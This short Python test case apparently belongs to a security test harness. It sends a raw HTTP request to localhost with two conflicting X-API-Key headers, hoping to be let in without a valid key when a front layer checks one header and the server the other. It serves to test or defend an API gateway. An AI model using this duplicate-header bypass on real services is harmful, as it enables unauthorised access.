# aim: be let in without a key
# mechanism: two keys, of which somebody in front may have checked the other
# server: gate
# plain: naive

def attack():
    answer = answer_in(raw(f"GET /v1/sandboxes HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {mine.key}\r\nX-API-Key: wrong\r\nConnection: close\r\n\r\n".encode()))
    return answer.is_good and answer.body[:200]


judge(attack)
